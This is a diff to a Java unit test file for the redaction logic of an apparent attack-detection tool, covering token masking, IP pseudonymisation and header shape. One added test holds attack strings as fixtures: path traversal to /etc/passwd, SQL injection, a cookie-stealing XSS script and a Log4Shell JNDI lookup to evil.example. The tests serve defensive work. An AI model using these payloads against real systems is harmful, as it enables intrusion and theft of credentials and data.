@@ -1,10 +1,12 @@
 package pt.sunbeam.detector.audit;
 
+import static java.nio.charset.StandardCharsets.ISO_8859_1;
 import static java.nio.charset.StandardCharsets.UTF_8;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;
 import static org.assertj.core.api.Assertions.tuple;
 
+import java.net.URLDecoder;
 import java.util.Base64;
 import java.util.HexFormat;
 import java.util.List;
@@ -35,7 +37,9 @@ class RedactionTest {
         "/t/eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U, /t/*",
         "/v/a%2Fdozjgc8Ny4J3jVmN2Hl0w%3D, /v/*",
         "/p;jsessionid=1A2B3C4D5E6F7A8B9C0D1E2F3A4B5C6D/x, /*/x",
-        "/x7f9k2m4p8q1r5t3w6z0, /*"
+        "/x7f9k2m4p8q1r5t3w6z0, /*",
+        "/%78%37f9k2m4%708q1r5t3w6%7A0/x, /*/x",
+        "/%2578%25377f9k2%256D4%25708q1r5t3w6z0, /*"
     })
     void segmentsThatLookLikeTokensAreMasked(String path, String redacted) {
         assertThat(REDACTION.path(path)).isEqualTo(redacted);
@@ -116,6 +120,107 @@ class RedactionTest {
         assertThat(REDACTION.url(url)).isEqualTo(redacted);
     }
 
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "",
+                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
+                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+                "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Version/17.5 Mobile/15E148",
+                "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
+                "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
+                "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
+                "pt-PT,pt;q=0.8,en-US;q=0.5,en;q=0.3",
+                "100%",
+                "shop.example:8443"
+            })
+    void whatBrowsersSendStays(String text) {
+        assertThat(REDACTION.text(text)).isEqualTo(text);
+    }
+
+    @ParameterizedTest
+    @CsvSource({
+        "agent/1.0 (key 3f2a9c8b7d6e5f4a3f2a9c8b7d6e5f4a), agent/1.0 (key *)",
+        "x7f9k2m4p8q1r5t3w6z0.shop.example, *.shop.example",
+        "token=dozjgc8Ny4J3jVmN2Hl0w/+x; y, token=*; y",
+        "a %78%37f9k2m4%708q1r5t3w6%7A0 b, a * b"
+    })
+    void wordsWithTokensAreMasked(String text, String redacted) {
+        assertThat(REDACTION.text(text)).isEqualTo(redacted);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "traversal path -: ../../etc/passwd",
+                "sqli query id: 1' or '1'='1' -- ",
+                "sqli query id: union select password from users where id=1 and sleep(5)",
+                "xss query q: <script>alert(document.cookie)</script>",
+                "log4j header user-agent: ${jndi:ldap://evil.example/a}"
+            })
+    void aPieceOfAnAttackStaysReadable(String piece) {
+        assertThat(REDACTION.piece(piece)).isEqualTo(piece);
+    }
+
+    @Test
+    void aPieceOfATokenIsMasked() {
+        assertThat(REDACTION.piece("sqli query id: ' union select k3y5abc9 from"))
+                .isEqualTo("sqli query id: ' union select * from");
+        assertThat(REDACTION.piece("sqli query 3f2a9c8b7d6e5f4a: x")).isEqualTo("sqli query *: x");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "192.0.2.7",
+                "for=192.0.2.7:1234;by=10.0.0.1",
+                "x 2001:db8::7 y",
+                "for=\"[2001:db8::7]:1234\"",
+                "::ffff:192.0.2.7",
+                "2001:DB8:0:0::7",
+                "agent/192.0.2.7",
+                "peer:192.0.2.7",
+                "peer:2001:db8::7",
+                "malformed request: 192.0.2.7 said so.",
+                "v192.0.2.7",
+                "192.0.2.7px",
+                "192.0.2.7.443",
+                "2001%3Adb8%3A%3A7",
+                "%5B2001%3adb8::7%5D",
+                "%31%39%32.0%2E2.7",
+                "2001%253Adb8%253A%253A7"
+            })
+    void noAddressStaysInATextWherePseudonymsAreAskedFor(String text) {
+        for (String redacted : List.of(
+                REDACTION.text(text), REDACTION.path("/x/" + text + "/y"), REDACTION.query(text + "=1&page=" + text))) {
+            assertThat(decoded(redacted)).doesNotContainIgnoringCase("192.0.2.7", "2001:db8", "10.0.0.1");
+        }
+        assertThat(new Redaction(Set.of(), false, KEY).text(text)).isEqualTo(text);
+    }
+
+    private static String decoded(String text) {
+        return URLDecoder.decode(URLDecoder.decode(text, ISO_8859_1), ISO_8859_1);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
+                "libwww-perl LWP::Simple/6.77 HTTP::Date",
+                "12:34:56",
+                "100% of 1.2.3",
+                "a%20b%"
+            })
+    void whatIsNoAddressStaysWherePseudonymsAreAskedFor(String text) {
+        assertThat(REDACTION.text(text)).isEqualTo(text);
+    }
+
+    @Test
+    void anAddressInATextHasThePseudonymThatItHasElsewhere() {
+        assertThat(REDACTION.text("from 192.0.2.7, 2001:db8::7"))
+                .isEqualTo("from " + REDACTION.address("192.0.2.7") + ", " + REDACTION.address("2001:db8::7"));
+    }
+
     @Test
     void addressesStayUnlessPseudonymsAreAskedFor() {
         var plain = new Redaction(Set.of(), false, KEY);
@@ -157,7 +262,17 @@ class RedactionTest {
                 "Cookie",
                 "sid=aB3; theme=dark+; =v",
                 "cookie",
-                "b=\u00e9 y"));
+                "b=\u00e9 y",
+                "Host",
+                "shop.example",
+                "User-Agent",
+                "has a field of its own",
+                "X-Requested-With",
+                "XMLHttpRequest",
+                "x-4f9a1c7be2d05836",
+                "a+b",
+                "X-Empty",
+                ""));
         assertThat(shape)
                 .extracting(Place::place, Place::name, Place::classes, Place::lengthBucket)
                 .containsExactly(
@@ -169,7 +284,10 @@ class RedactionTest {
                         tuple("cookie", "sid", 1 | 2 | 4, 2),
                         tuple("cookie", "theme", 2 | 32, 3),
                         tuple("cookie", "", 2, 1),
-                        tuple("cookie", "b", 2 | 8 | 128, 2));
+                        tuple("cookie", "b", 2 | 8 | 128, 2),
+                        tuple("header", "x-requested-with", 2 | 4, 4),
+                        tuple("header", "*", 2 | 32, 2),
+                        tuple("header", "x-empty", 0, 0));
     }
 
     @Test
